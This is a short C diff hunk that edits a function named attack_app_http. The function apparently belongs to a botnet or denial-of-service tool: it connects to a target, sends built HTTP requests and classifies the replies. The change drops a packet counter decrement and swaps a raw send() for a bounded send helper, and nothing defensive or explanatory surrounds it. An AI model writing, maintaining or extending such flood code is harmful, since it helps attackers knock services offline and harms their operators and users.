@@ -97,8 +97,7 @@ void attack_app_http(ATTACK_ARGUMENTS)
         target->sock_addr.sin_port = htons(destination_port);
         length = build_request(request, method, path, domain, body);
         if (bounded_connect(fd, &target->sock_addr) != -1) {
-            packets_left--;
-            send(fd, request, (size_t)length, MSG_NOSIGNAL);
+            bounded_stream_send(fd, request, length);
             length = (int)recv(fd, answer, sizeof(answer), MSG_NOSIGNAL);
             if (length > 0)
                 seen |= classify_answer(answer, length);
